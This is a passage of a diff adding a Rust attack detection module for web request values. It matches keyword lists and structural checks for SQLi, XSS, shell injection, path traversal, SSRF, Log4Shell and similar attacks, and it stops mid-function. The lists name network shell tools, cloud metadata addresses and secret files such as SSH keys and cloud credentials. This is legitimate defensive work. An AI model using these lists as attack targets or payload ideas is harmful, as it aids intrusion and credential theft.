@@ -1,0 +1,1700 @@
+//! Attack classes on request values. SQL injection and XSS have tokenizers of their own
+//! (`sqli`, `xss`); the others are keyword rules with a context check each (a word boundary,
+//! a call, a URL host) matched in one Aho-Corasick pass, plus structural checks for shell
+//! syntax, traversal sequences, template expressions, LDAP filters and nested Log4j lookups.
+//! Every rule sees the normalized value (decoded, lower case).
+
+use super::{sqli, xss, Part, Site};
+use aho_corasick::AhoCorasick;
+
+/// Every attack class the detector reports.
+pub const ATTACK_CLASSES: &[&str] = &[
+    "sqli",
+    "xss",
+    "path_traversal",
+    "rfi",
+    "ssrf",
+    "command_injection",
+    "ssti",
+    "nosqli",
+    "ldap_injection",
+    "xpath_injection",
+    "xxe",
+    "log4shell",
+    "crlf_injection",
+    "java_injection",
+    "php_injection",
+    "code_injection",
+    "ssi_injection",
+    "protocol",
+];
+
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Ctx {
+    /// anywhere
+    Any,
+    /// not preceded by a letter, digit or `_`
+    WordStart,
+    /// word start, then optional spaces and `(`
+    Call,
+}
+
+struct Rule {
+    pattern: &'static str,
+    class: &'static str,
+    ctx: Ctx,
+    reason: &'static str,
+    severity: u8,
+}
+
+const fn rule(pattern: &'static str, class: &'static str, ctx: Ctx, reason: &'static str, severity: u8) -> Rule {
+    Rule { pattern, class, ctx, reason, severity }
+}
+
+macro_rules! rules {
+    ($class:literal, $ctx:ident, $reason:literal, $severity:literal: $($p:literal),* $(,)?) => {
+        [$(rule($p, $class, Ctx::$ctx, $reason, $severity)),*]
+    };
+}
+
+const JAVA: [Rule; 59] = rules!("java_injection", WordStart, "Java class or gadget name", 4:
+    "org.apache.commons", "java.runtime", "java.processbuilder", "org.omg.corba", "java.lang", "javax.script",
+    "java.io",
+    "java.lang.", "java.io.", "java.net.", "java.util.", "java.nio.", "java.beans.", "java.rmi.", "java.security.",
+    "javax.", "sun.misc.", "sun.reflect.", "sun.rmi.", "com.sun.", "org.apache.commons.collections",
+    "org.apache.xalan", "org.apache.commons.beanutils", "org.apache.naming", "org.apache.tomcat",
+    "org.apache.catalina", "org.apache.struts", "org.apache.velocity", "org.apache.log4j", "org.codehaus.groovy",
+    "org.springframework.", "org.omg.", "org.mozilla.javascript", "com.opensymphony.xwork2", "org.hibernate.",
+    "org.jboss.", "org.python.", "bsh.interpreter", "clojure.", "groovy.lang", "jdk.nashorn", "ognl.",
+    "runtime.getruntime", "getruntime()", "processbuilder", "processimpl", "java.lang.runtime", "classloader",
+    "class.forname", ".getclass()", "xwork.methodaccessor", "#_memberaccess", "@ognl", "invokertransformer",
+    "instantiatefactory", "instantiatetransformer", "chainedtransformer", "whileclosure", "ro0ab",
+);
+
+const PHP_CALLS: [Rule; 47] = rules!("php_injection", Call, "high-risk PHP function call", 4:
+    "system", "exec", "shell_exec", "passthru", "popen", "proc_open", "pcntl_exec", "eval", "assert",
+    "create_function", "call_user_func", "call_user_func_array", "base64_decode", "gzinflate", "gzuncompress",
+    "str_rot13", "file_get_contents", "file_put_contents", "fopen", "fwrite", "fputs", "fputcsv", "readfile",
+    "include", "require", "include_once", "require_once", "phpinfo", "preg_replace", "unserialize", "chr",
+    "intval", "fsockopen", "pfsockopen", "move_uploaded_file", "curl_exec", "ini_set", "getenv", "putenv",
+    "show_source", "highlight_file", "php_uname", "array_map", "usort", "uasort", "array_filter", "ob_start",
+);
+
+const PHP_WORDS: [Rule; 44] = rules!("php_injection", WordStart, "PHP function, variable or stream", 4:
+    "posix_getpwuid", "posix_getegid", "posix_geteuid", "posix_getgid", "posix_getuid", "posix_kill", "posix_mkfifo",
+    "posix_setuid", "posix_uname", "posix_", "pcntl_", "phpinfo", "shell_exec", "proc_open", "base64_decode",
+    "file_get_contents", "file_put_contents", "call_user_func", "create_function", "get_defined_vars",
+    "$_get", "$_post", "$_server", "$_cookie", "$_request", "$_files", "$_env", "$_session", "$globals",
+    "$http_raw_post_data", "$http_get_vars", "$http_post_vars", "php://", "phar://", "zlib://", "glob://",
+    "expect://", "compress.zlib://", "compress.bzip2://", "ogg://", "rar://", "ssh2.shell://", "ssh2.exec://",
+    "<?php",
+);
+
+const PHP_CONFIG: [Rule; 14] = rules!("php_injection", WordStart, "PHP configuration directive", 3:
+    "allow_url_include", "allow_url_fopen", "auto_prepend_file", "auto_append_file", "disable_functions",
+    "open_basedir", "safe_mode", "register_globals", "magic_quotes_gpc", "suhosin.", "enable_dl",
+    "disable_classes", "display_errors", "zend_extension",
+);
+
+const FILES: [Rule; 68] = rules!("path_traversal", Any, "access to a system or secret file", 3:
+    "access_log", "access.log", "error_log", "error.log", "/var/apache",
+    "etc/subuid", "etc/subgid", "proc/interrupts", "sys/class/", ".docker/secrets", "debug.log", "backup.sql",
+    "etc/passwd", "etc/shadow", "etc/hosts", "etc/group", "etc/issue", "etc/motd", "etc/sudoers", "etc/crontab",
+    "etc/hostname", "etc/resolv.conf", "etc/fstab", "etc/profile", "etc/apache", "etc/httpd", "etc/nginx",
+    "etc/mysql", "etc/php", "etc/ssh", "proc/self/", "proc/version", "proc/cpuinfo", "proc/net/", "proc/sched_debug",
+    "boot.ini", "win.ini", "system.ini", "windows/system32", "winnt/system32", "windows\\system32", "inetpub",
+    "/.ssh/", "id_rsa", "id_dsa", "id_ecdsa", "id_ed25519", ".bash_history", ".bashrc", ".htpasswd", ".htaccess",
+    "web.config", "/.git/", "/.svn/", "/.hg/", "wp-config.php", "/var/log/", "php.ini", "my.cnf", "httpd.conf",
+    ".aws/credentials", ".docker/config.json", ".kube/config", ".npmrc", ".pgpass", "/.env", "localsettings.php",
+    "config.inc.php",
+);
+
+const AGENT_FILES: [Rule; 20] = rules!("path_traversal", Any, "access to an AI coding assistant's files", 3:
+    "/.junie/", "/.roo/", "/.kiro/", "/.amazonq/", "/.cline", "/.github/copilot", "/.vscode/mcp", "/.mcp.json",
+    "/.opencode/", "/.codex/", "/.claude/", "/.cursor/", "/.aider", "/.windsurf", "/.continue/", "/.gemini/",
+    "/.copilot/", "/claude.md", "/agents.md", "/.cursorrules",
+);
+
+const SSRF_HOSTS: [Rule; 23] = rules!("ssrf", Any, "internal or metadata address", 4:
+    "169.254.169.254", "metadata.google.internal", "100.100.100.200", "192.0.0.192", "fd00:ec2::254",
+    "host.docker.internal", "host.containers.internal", "gateway.docker.internal", "kubernetes.default",
+    "ip6-localhost", "ip6-loopback", "instance-data", "/latest/meta-data", "/latest/user-data",
+    "/latest/api/token", "/computemetadata/v1", "/metadata/instance", "/metadata/v1", "metadata.azure.com",
+    "[::ffff:127", "[::1]", "[0:0:0:0:0:0:0:1]", "0x7f000001",
+);
+
+const SSRF_SCHEMES: [Rule; 9] = rules!("ssrf", WordStart, "unusual URL scheme", 4:
+    "gopher://", "dict://", "tftp://", "ldap://", "jar:", "netdoc:", "file://", "data://", "data:text/plain",
+);
+
+const CODE: [Rule; 37] = rules!("code_injection", Any, "server-side script injection", 4:
+    "_$$nd_func$$_", "__js_function", "function(){", "function() {", "new function(", "new function (",
+    "this.constructor", ".constructor.constructor", "module.exports", "console.", "process[",
+    "__proto__", "constructor[prototype]", "constructor.prototype", "child_process", "process.mainmodule",
+    "process.binding", "global.process", "require('", "require(\"", "require(`", "execsync(", "spawnsync(",
+    ".spawn(", "while(true)", "while(1)", "while(!false)", "while(+infinity)", "for(;;)", "kernel.exec",
+    "kernel.system", "io.popen", "%x(", "open3.", "process.env", "runtime.exec", "module.constructor",
+);
+
+const NOSQL: [Rule; 16] = rules!("nosqli", Any, "NoSQL operator or script", 4:
+    "$where", "[$ne]", "[$gt]", "[$lt]", "[$regex]", "[$nin]", "[$in]", "[$exists]", "{\"$ne\"", "{\"$gt\"",
+    "{\"$regex\"", "db.getcollection", "this.password", "this.username", ";return true", "return(true)",
+);
+
+const XPATH: [Rule; 13] = rules!("xpath_injection", Any, "XPath axis or function", 4:
+    "count(/", "child::", "parent::", "ancestor::", "descendant::", "following-sibling::", "preceding-sibling::",
+    "string-length(", "name(/", "name()", "//user[", "//*[", "text()=",
+);
+
+const XXE: [Rule; 8] = rules!("xxe", Any, "XML entity, inclusion or transformation", 4:
+    "<!entity", "xmlns:xi=", "<xi:include", "<!doctype", "<xsl:stylesheet", "<xsl:transform", "xmlns:xsl=", "<![cdata[",
+);
+
+const SSI: [Rule; 8] = rules!("ssi_injection", Any, "server-side include", 4:
+    "<!--#exec", "<!--#include", "<!--#echo", "<!--#config", "<!--#printenv", "<!--#set", "<esi:", "<!--esi",
+);
+
+const SHELL_WORDS: [Rule; 21] = rules!("command_injection", Any, "shell program or syntax", 4:
+    "/bin/sh", "/bin/bash", "/bin/zsh", "/bin/dash", "/bin/busybox", "/usr/bin/", "cmd.exe", "cmd /c", "cmd /k",
+    "%comspec%", "powershell", "pwsh ", "invoke-expression", "invoke-webrequest", "net.webclient",
+    "downloadstring(", "-encodedcommand", "start-process", "invoke-command", "${ifs}", "$ifs$",
+);
+
+const LOG4J: [Rule; 2] = rules!("log4shell", Any, "JNDI lookup", 4: "${jndi:", "jndi:");
+
+/// All keyword rules, in one automaton.
+pub struct Rules {
+    automaton: Option<AhoCorasick>,
+    rules: Vec<&'static Rule>,
+}
+
+impl Rules {
+    pub fn new() -> Self {
+        let groups: [&'static [Rule]; 18] = [
+            &JAVA,
+            &PHP_CALLS,
+            &PHP_WORDS,
+            &PHP_CONFIG,
+            &FILES,
+            &AGENT_FILES,
+            &SSRF_HOSTS,
+            &SSRF_SCHEMES,
+            &CODE,
+            &NOSQL,
+            &XPATH,
+            &XXE,
+            &SSI,
+            &SHELL_WORDS,
+            &LOG4J,
+            &[],
+            &[],
+            &[],
+        ];
+        let rules: Vec<&'static Rule> = groups.iter().flat_map(|g| g.iter()).collect();
+        let automaton = AhoCorasick::new(rules.iter().map(|r| r.pattern)).ok();
+        Rules { automaton, rules }
+    }
+
+    /// Scans a normalized value.
+    pub fn scan(&self, site: Site<'_>, v: &str, emit: &mut dyn FnMut(&'static str, &'static str, u8)) {
+        if v.len() < 2 {
+            return;
+        }
+        let mut seen: u32 = 0;
+        let mut once = |class: &'static str, reason: &'static str, severity: u8| {
+            let bit = ATTACK_CLASSES.iter().position(|c| *c == class).map_or(0, |i| 1u32 << i);
+            if seen & bit == 0 {
+                seen |= bit;
+                emit(class, reason, severity);
+            }
+        };
+        let b = v.as_bytes();
+        let special = b.iter().any(|c| !c.is_ascii_alphanumeric() && *c != b' ' && *c != b'-' && *c != b'_');
+        if special || b.len() > 12 {
+            if let Some(reason) = sqli::detect(v) {
+                once("sqli", reason, 4);
+            }
+        }
+        if special {
+            if let Some(reason) = xss::detect(v) {
+                once("xss", reason, 3);
+            }
+            if let Some(reason) = traversal(b) {
+                once("path_traversal", reason, 3);
+            }
+            if let Some(reason) = template(b) {
+                once("ssti", reason, 4);
+            }
+            if let Some(reason) = ldap(b) {
+                once("ldap_injection", reason, 3);
+            }
+            if let Some(reason) = crlf(b, site.part == Part::Header) {
+                once("crlf_injection", reason, 3);
+            }
+            if let Some(reason) = log4j(v) {
+                once("log4shell", reason, 4);
+            }
+            if let Some(reason) = nosql(b) {
+                once("nosqli", reason, 4);
+            }
+            if let Some(reason) = entity_reference(b) {
+                once("xxe", reason, 3);
+            }
+            if let Some(reason) = php_structures(b) {
+                once("php_injection", reason, 4);
+            }
+            if let Some((class, reason)) = url_value(v, site.key) {
+                once(class, reason, 4);
+            }
+        }
+        if special || b.contains(&b' ') {
+            if let Some(reason) = shell(b) {
+                once("command_injection", reason, 4);
+            }
+        } else if let Some(reason) = shell_start(b) {
+            once("command_injection", reason, 4);
+        }
+        if site.key == "filename" {
+            if let Some((class, reason)) = upload_name(v) {
+                once(class, reason, 4);
+            }
+        }
+        self.keywords(b, &mut once);
+    }
+
+    /// A parameter or JSON key name: prototype pollution and NoSQL operators live there.
+    pub fn scan_name(&self, name: &str, emit: &mut dyn FnMut(&'static str, &'static str, u8)) {
+        let n = name.to_ascii_lowercase();
+        if n.contains("__proto__") || n.contains("constructor[prototype]") || n.contains("constructor.prototype") {
+            emit("code_injection", "prototype pollution in a parameter name", 4);
+        }
+        const OPERATORS: &[&str] = &[
+            "$ne",
+            "$eq",
+            "$gt",
+            "$gte",
+            "$lt",
+            "$lte",
+            "$in",
+            "$nin",
+            "$regex",
+            "$where",
+            "$exists",
+            "$expr",
+            "$or",
+            "$and",
+            "$not",
+            "$nor",
+            "$elemmatch",
+            "$function",
+            "$accumulator",
+            "$text",
+            "$size",
+            "$all",
+            "$type",
+        ];
+        let op = n.rsplit(['[', '.']).next().unwrap_or(&n).trim_end_matches(']');
+        if OPERATORS.contains(&op) {
+            emit("nosqli", "NoSQL query operator in a name", 4);
+        }
+    }
+
+    /// The request path: traversal and restricted files (keywords), nothing that needs a value.
+    pub fn scan_path(&self, path: &str, emit: &mut dyn FnMut(&'static str, &'static str, u8)) {
+        let b = path.as_bytes();
+        let mut once_done = false;
+        if let Some(reason) = traversal(b) {
+            emit("path_traversal", reason, 3);
+            once_done = true;
+        }
+        let Some(automaton) = self.automaton.as_ref() else { return };
+        let mut seen: u32 = 0;
+        for m in automaton.find_overlapping_iter(b) {
+            let Some(rule) = self.rules.get(m.pattern().as_usize()) else { continue };
+            let path_class =
+                matches!(rule.class, "path_traversal" | "php_injection" | "java_injection" | "command_injection");
+            if !path_class
+                || (once_done && rule.class == "path_traversal")
+                || !context_ok(b, m.start(), m.end(), rule.ctx)
+            {
+                continue;
+            }
+            let bit = ATTACK_CLASSES.iter().position(|c| *c == rule.class).map_or(0, |i| 1u32 << i);
+            if seen & bit == 0 {
+                seen |= bit;
+                emit(rule.class, rule.reason, rule.severity);
+            }
+        }
+    }
+
+    fn keywords(&self, b: &[u8], once: &mut dyn FnMut(&'static str, &'static str, u8)) {
+        let Some(automaton) = self.automaton.as_ref() else { return };
+        for m in automaton.find_overlapping_iter(b) {
+            let Some(rule) = self.rules.get(m.pattern().as_usize()) else { continue };
+            if context_ok(b, m.start(), m.end(), rule.ctx) && extra_ok(rule, b, m.start(), m.end()) {
+                once(rule.class, rule.reason, rule.severity);
+            }
+        }
+    }
+}
+
+impl Default for Rules {
+    fn default() -> Self {
+        Rules::new()
+    }
+}
+
+fn word_byte(c: u8) -> bool {
+    c.is_ascii_alphanumeric() || c == b'_'
+}
+
+fn context_ok(b: &[u8], start: usize, end: usize, ctx: Ctx) -> bool {
+    let starts_word = start == 0 || !word_byte(b[start - 1]) || !word_byte(b[start]);
+    match ctx {
+        Ctx::Any => true,
+        Ctx::WordStart => starts_word,
+        Ctx::Call => {
+            if !starts_word || (end < b.len() && word_byte(b[end])) {
+                return false;
+            }
+            let mut i = end;
+            // spaces, block comments and line-comment-newline pairs before the `(`
+            loop {
+                while i < b.len() && b[i].is_ascii_whitespace() {
+                    i += 1;
+                }
+                if b[i..].starts_with(b"/*") {
+                    match b[i + 2..].windows(2).position(|w| w == b"*/") {
+                        Some(p) => i += 2 + p + 2,
+                        None => return false,
+                    }
+                } else if b[i..].starts_with(b"//") || b[i..].starts_with(b"#") {
+                    match b[i..].iter().position(|&c| c == b'\n') {
+                        Some(p) => i += p + 1,
+                        None => return false,
+                    }
+                } else if b.get(i) == Some(&b'"') || b.get(i) == Some(&b'\'') {
+                    // ("system")("id"): a quoted name closed right before the call
+                    i += 1;
+                } else {
+                    break;
+                }
+            }
+            b.get(i) == Some(&b'(')
+        }
+    }
+}
+
+/// Checks some keywords need beyond their context.
+fn extra_ok(rule: &Rule, b: &[u8], start: usize, end: usize) -> bool {
+    match rule.pattern {
+        // a `<!doctype` alone is ordinary HTML; with a SYSTEM or PUBLIC identifier or an
+        // internal subset it is an entity declaration
+        // CDATA wrapping markup or quotes smuggles them past XML-aware filters
+        "<![cdata[" => b[end..].iter().any(|c| matches!(c, b'<' | b'\'' | b'"')),
+        "<!doctype" => {
+            let rest = &b[end..];
+            memchr::memmem::find(rest, b"system").is_some()
+                || memchr::memmem::find(rest, b"public").is_some()
+                || rest.contains(&b'[')
+        }
+        "jndi:" => {
+            b[start..].starts_with(b"jndi:ldap")
+                || b[start..].starts_with(b"jndi:rmi")
+                || b[start..].starts_with(b"jndi:dns")
+        }
+        "ro0ab" => {
+            end + 4 <= b.len() && b[end..].iter().take(4).all(|c| c.is_ascii_alphanumeric() || *c == b'+' || *c == b'/')
+        }
+        // a PHP call: `chr(65)`, `system('id')`, `exec /**/ (x)`; prose puts a space before its
+        // parenthesis (`the system (v2)`), so a spaced call needs a code-like argument
+        _ if rule.class == "php_injection" && rule.ctx == Ctx::Call => {
+            let Some(open) = b[end..].iter().position(|&c| c == b'(') else { return false };
+            let gap = &b[end..end + open];
+            let arg = b.get(end + open + 1).copied();
+            let commented = memchr::memmem::find(gap, b"/*").is_some()
+                || gap.contains(&b'#')
+                || memchr::memmem::find(gap, b"//").is_some();
+            let quoted_name = gap.contains(&b'"') || gap.contains(&b'\'');
+            match arg {
+                None | Some(b')') => false,
+                _ if gap.is_empty() || commented || quoted_name => true,
+                Some(c) => matches!(c, b'"' | b'\'' | b'$' | b'`'),
+            }
+        }
+        "process.env" | "name()" | "jar:" => start == 0 || !word_byte(b[start - 1]),
+        // `${jndi:ldap://...}` is Log4Shell, reported as such
+        "ldap://" | "dict://" | "file://" => !b[..start].ends_with(b"jndi:"),
+        _ => true,
+    }
+}
+
+/// `../`, `..\`, `.../`, `....//` and a leading `/..`; also with the backslashes some
+/// scanners put before dots and slashes (`\.\./`).
+fn traversal(b: &[u8]) -> Option<&'static str> {
+    if let Some(reason) = traversal_plain(b) {
+        return Some(reason);
+    }
+    if b.contains(&b'\\') {
+        let unescaped: Vec<u8> = b.iter().copied().filter(|&c| c != b'\\').collect();
+        if memchr::memmem::find(&unescaped, b"../").is_some() {
+            return Some("directory traversal sequence");
+        }
+    }
+    // `0x2e0x2e0x2f`: bytes written as hex literals
+    if memchr::memmem::find(b, b"0x2e").is_some() {
+        let text = String::from_utf8_lossy(b).replace("0x2e", ".").replace("0x2f", "/").replace("0x5c", "/");
+        if traversal_plain(text.as_bytes()).is_some() {
+            return Some("directory traversal sequence (hex literals)");
+        }
+    }
+    None
+}
+
+fn traversal_plain(b: &[u8]) -> Option<&'static str> {
+    let mut from = 0;
+    while let Some(p) = memchr::memmem::find(&b[from..], b"..") {
+        let pos = from + p;
+        let mut end = pos + 2;
+        while end < b.len() && b[end] == b'.' {
+            end += 1;
+        }
+        let slash_after = matches!(b.get(end), Some(b'/' | b'\\' | b';'));
+        let slash_before = pos == 0 || matches!(b[pos - 1], b'/' | b'\\' | b'=' | b'"' | b'\'' | b' ');
+        if slash_after && slash_before {
+            return Some("directory traversal sequence");
+        }
+        if end == b.len() && pos > 0 && matches!(b[pos - 1], b'/' | b'\\') {
+            return Some("directory traversal sequence");
+        }
+        from = end;
+    }
+    // an absolute path to where systems keep configuration, logs and credentials
+    const ROOTS: &[&[u8]] = &[
+        b"/etc/",
+        b"/proc/",
+        b"/sys/",
+        b"/root/",
+        b"/var/log",
+        b"/var/lib/",
+        b"/var/www",
+        b"/var/run",
+        b"/usr/local/etc",
+        b"/dev/",
+        b"/boot/",
+        b"c:\\",
+        b"c:/",
+        b"/windows/",
+        b"/winnt/",
+        b"/home/",
+        b"/opt/",
+        b"/usr/local/",
+        b"/var/mail",
+        b"/var/spool",
+        b"/var/cpanel",
+        b"/var/adm",
+    ];
+    // at the start of the value or of a word (`cat /etc/subuid`, `x; >/tmp/a`)
+    let word_starts = std::iter::once(0).chain(
+        b.iter()
+            .enumerate()
+            .filter(|(_, c)| matches!(c, b' ' | b'>' | b'<' | b';' | b'|' | b'=' | b'\'' | b'"'))
+            .map(|(i, _)| i + 1),
+    );
+    for start in word_starts {
+        if ROOTS.iter().any(|r| b[start.min(b.len())..].starts_with(r))
+            || (start > 0 && b[start..].starts_with(b"/tmp/"))
+        {
+            return Some("absolute path to a system location");
+        }
+    }
+    None
+}
+
+/// Programs commonly run by injected shell commands.
+const COMMANDS: &[&str] = &[
+    "cat",
+    "ls",
+    "id",
+    "whoami",
+    "uname",
+    "pwd",
+    "ifconfig",
+    "ipconfig",
+    "ip",
+    "netstat",
+    "ps",
+    "wget",
+    "curl",
+    "nc",
+    "ncat",
+    "netcat",
+    "bash",
+    "sh",
+    "zsh",
+    "ksh",
+    "csh",
+    "tcsh",
+    "dash",
+    "fish",
+    "python",
+    "python2",
+    "python3",
+    "perl",
+    "ruby",
+    "php",
+    "node",
+    "lua",
+    "ping",
+    "nslookup",
+    "dig",
+    "sleep",
+    "echo",
+    "rm",
+    "mv",
+    "cp",
+    "chmod",
+    "chown",
+    "touch",
+    "mkdir",
+    "find",
+    "grep",
+    "awk",
+    "gawk",
+    "sed",
+    "head",
+    "tail",
+    "more",
+    "less",
+    "env",
+    "printenv",
+    "export",
+    "kill",
+    "killall",
+    "pkill",
+    "nohup",
+    "time",
+    "timeout",
+    "crontab",
+    "systemctl",
+    "service",
+    "sudo",
+    "su",
+    "ssh",
+    "scp",
+    "telnet",
+    "ftp",
+    "tftp",
+    "base64",
+    "xxd",
+    "od",
+    "hexdump",
+    "tar",
+    "zip",
+    "unzip",
+    "gzip",
+    "gunzip",
+    "dd",
+    "mknod",
+    "mkfifo",
+    "socat",
+    "openssl",
+    "gcc",
+    "cc",
+    "g++",
+    "make",
+    "irb",
+    "rmt",
+    "chef-client",
+    "ansible-playbook",
+    "ansible",
+    "java",
+    "jrunscript",
+    "busybox",
+    "vi",
+    "vim",
+    "nano",
+    "ed",
+    "expect",
+    "which",
+    "whereis",
+    "locate",
+    "history",
+    "alias",
+    "eval",
+    "exec",
+    "source",
+    "uptime",
+    "who",
+    "last",
+    "hostname",
+    "cut",
+    "sort",
+    "uniq",
+    "wc",
+    "xargs",
+    "tee",
+    "ln",
+    "file",
+    "stat",
+    "diff",
+    "strings",
+    "c89",
+    "c99",
+    "docker",
+    "kubectl",
+    "mysql",
+    "psql",
+    "sqlite3",
+    "nmap",
+    "tcpdump",
+    "iptables",
+    "route",
+    "arp",
+    "traceroute",
+    "tracert",
+    "net",
+    "netsh",
+    "systeminfo",
+    "tasklist",
+    "taskkill",
+    "dir",
+    "type",
+    "copy",
+    "del",
+    "ver",
+    "powershell",
+    "pwsh",
+    "cmd",
+    "certutil",
+    "bitsadmin",
+    "reg",
+    "regsvr32",
+    "rundll32",
+    "mshta",
+    "wmic",
+    "cscript",
+    "wscript",
+    "schtasks",
+    "sc",
+    "whoami.exe",
+    "nice",
+    "env",
+    "bzip2",
+    "lsof",
+    "passwd",
+    "useradd",
+    "shutdown",
+    "reboot",
+    "halt",
+    "mount",
+    "umount",
+    "fdisk",
+    "awk",
+    "nawk",
+    "sftp",
+    "rsync",
+    "git",
+    "svn",
+    "npm",
+    "pip",
+    "gem",
+    "tclsh",
+    "wish",
+    "lua5.1",
+    "php7",
+    "rbash",
+    "jshell",
+    "ghci",
+    "gdb",
+    "strace",
+    "ltrace",
+    "at",
+    "batch",
+    "finger",
+    "w",
+    "getent",
+    "chattr",
+    "lsattr",
+    "mail",
+    "sendmail",
+    "nl",
+    "tac",
+    "rev",
+    "fold",
+    "paste",
+    "join",
+    "split",
+    "script",
+    "tmux",
+    "screen",
+    "watch",
+    "yes",
+    "bc",
+    "dc",
+    "expr",
+    "printf",
+    "test",
+    "iex",
+    "iwr",
+    "irm",
+    "iwmi",
+    "gwmi",
+    "icm",
+    "sal",
+    "gci",
+    "gc",
+    "sl",
+    "saps",
+    "start-process",
+    "bcdboot",
+    "bcdedit",
+    "diskpart",
+    "icacls",
+    "cacls",
+    "takeown",
+    "vssadmin",
+    "wevtutil",
+    "nltest",
+    "dsquery",
+    "net1",
+    "invoke-webrequest",
+    "invoke-restmethod",
+    "invoke-expression",
+    "new-object",
+    "get-wmiobject",
+];
+
+/// Programs whose names are not English words: a value that starts with one is a command.
+const UNAMBIGUOUS: &[&str] = &[
+    "ifconfig",
+    "ipconfig",
+    "whoami",
+    "uname",
+    "netstat",
+    "nslookup",
+    "wget",
+    "curl",
+    "nc",
+    "ncat",
+    "netcat",
+    "bash",
+    "zsh",
+    "ksh",
+    "powershell",
+    "pwsh",
+    "certutil",
+    "systeminfo",
+    "tasklist",
+    "chmod",
+    "chown",
+    "nohup",
+    "crontab",
+    "sudo",
+    "python",
+    "python2",
+    "python3",
+    "perl",
+    "busybox",
+    "socat",
+    "nmap",
+    "telnet",
+    "ansible-playbook",
+    "chef-client",
+    "gcc",
+    "wmic",
+    "bitsadmin",
+    "mshta",
+    "rundll32",
+    "regsvr32",
+    "cscript",
+    "wscript",
+    "traceroute",
+    "tracert",
+    "printenv",
+    "mkfifo",
+    "mknod",
+    "hexdump",
+    "xxd",
+    "tcpdump",
+    "iptables",
+    "useradd",
+    "jrunscript",
+    "irb",
+    "rmt",
+    "sh",
+    "cmd",
+    "ls",
+    "id",
+    "ps",
+    "pwd",
+    "cat",
+    "dir",
+    "iex",
+    "iwr",
+    "iwmi",
+    "gwmi",
+    "bcdboot",
+    "bcdedit",
+    "diskpart",
+    "icacls",
+    "vssadmin",
+    "wevtutil",
+];
+
+/// Words that may precede a command (`time ifconfig`, `sudo -u x id`).
+const PREFIXES: &[&str] = &["time", "nohup", "sudo", "env", "exec", "nice", "timeout", "xargs", "command", "builtin"];
+
+fn command_word(b: &[u8], mut i: usize) -> Option<(usize, usize, String)> {
+    while i < b.len() && matches!(b[i], b' ' | b'\t' | b'{' | b'(' | b'\'' | b'"') {
+        i += 1;
+    }
+    // `/bin/`, `/usr/bin/`, `./`
+    let start = i;
+    let mut word = String::new();
+    let mut j = i;
+    while j < b.len() && word.len() < 40 {
+        let c = b[j];
+        if c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.' | b'+') {
+            word.push(c as char);
+        } else if matches!(c, b'\\' | b'\'' | b'"' | b'$' | b'@') && j + 1 < b.len() && b[j + 1].is_ascii_alphanumeric()
+        {
+            // c\at, c'a't, w$@hoami: quoting tricks that the shell removes
+        } else if c == b'/' {
+            word.clear();
+        } else {
+            break;
+        }
+        j += 1;
+    }
+    (!word.is_empty()).then_some((start, j, word))
+}
+
+fn known_command(word: &str) -> bool {
+    let base = word.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+    let base = base.strip_suffix(".exe").unwrap_or(base);
+    COMMANDS.contains(&word) || (!base.is_empty() && COMMANDS.contains(&base))
+}
+
+/// Shell syntax that runs a command: a separator (`;`, `|`, `&`, backtick, `$(`, newline)
+/// followed by a known program, command substitution, `${IFS}`, shellshock, brace expansion,
+/// and Windows `for /f` / `if exist` batch syntax.
+fn shell(b: &[u8]) -> Option<&'static str> {
+    if memchr::memmem::find(b, b"() {").is_some() || memchr::memmem::find(b, b"(){").is_some() {
+        return Some("shellshock function definition");
+    }
+    for (i, &c) in b.iter().enumerate() {
+        let separator = match c {
+            b';' | b'|' | b'&' | b'`' | b'\n' | b'\r' => true,
+            b'$' => matches!(b.get(i + 1), Some(b'(' | b'{')),
+            b'<' | b'>' => b.get(i + 1) == Some(&b'('),
+            b'{' => true,
+            _ => false,
+        };
+        if !separator {
+            continue;
+        }
+        let mut k = i + 1;
+        while k < b.len() && matches!(b[k], b'|' | b'&' | b'(' | b'{' | b';' | b'$') {
+            k += 1;
+        }
+        let Some((_, end, word)) = command_word(b, k) else { continue };
+        let mut word = word;
+        let mut end = end;
+        if PREFIXES.contains(&word.as_str()) {
+            if let Some((_, e2, w2)) = command_word(b, end) {
+                if known_command(&w2) {
+                    word = w2;
+                    end = e2;
+                }
+            }
+        }
+        if !known_command(&word) {
+            continue;
+        }
+        let after = b.get(end).copied();
+        let args_follow = matches!(
+            after,
+            None | Some(
+                b' ' | b'\t'
+                    | b'\n'
+                    | b';'
+                    | b'|'
+                    | b'&'
+                    | b'<'
+                    | b'>'
+                    | b'`'
+                    | b')'
+                    | b'$'
+                    | b','
+                    | b'\''
+                    | b'"'
+                    | b'}'
+            )
+        );
+        // `{` needs a comma right after the word (brace expansion `{cat,/etc/passwd}`)
+        let brace_ok = c != b'{' || after == Some(b',');
+        let ampersand_ok = c != b'&' || i == 0 || !b[i - 1].is_ascii_alphanumeric() || b.get(i + 1) == Some(&b'&');
+        if args_follow && brace_ok && ampersand_ok {
+            return Some(match c {
+                b'`' | b'$' | b'<' | b'>' => "command substitution",
+                b'{' => "brace expansion",
+                _ => "command after a shell separator",
+            });
+        }
+    }
+    if memchr::memmem::find(b, b"$(")
+        .is_some_and(|p| b.get(p + 2).is_some_and(|c| c.is_ascii_alphabetic() || *c == b'('))
+    {
+        return Some("command substitution");
+    }
+    windows_batch(b).or_else(|| shell_expansion(b)).or_else(|| shell_start(b))
+}
+
+/// A value that starts with a program name that is not an English word (`ifconfig`,
+/// `time ifconfig`, `/bin/sh -c ...`).
+fn shell_start(b: &[u8]) -> Option<&'static str> {
+    let (_, end, word) = command_word(b, 0)?;
+    let (end, word) = if PREFIXES.contains(&word.as_str()) {
+        let (_, e, w) = command_word(b, end)?;
+        (e, w)
+    } else {
+        (end, word)
+    };
+    let base = word.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+    let unambiguous = UNAMBIGUOUS.contains(&word.as_str()) || UNAMBIGUOUS.contains(&base);
+    let after = b.get(end).copied();
+    let shaped = match after {
+        None => word.len() >= 4 && !matches!(word.as_str(), "curl" | "bash"),
+        Some(b' ') => {
+            // an argument that looks like one: an option, a path, a variable, a redirection, a
+            // host or URL; `Curl O'Brien` is a name
+            let rest = &b[end + 1..];
+            let arg = rest.split(|c| *c == b' ').next().unwrap_or_default();
+            rest.first()
+                .is_some_and(|c| matches!(c, b'-' | b'/' | b'.' | b'$' | b'<' | b'>' | b'\'' | b'"' | b'`' | b'~'))
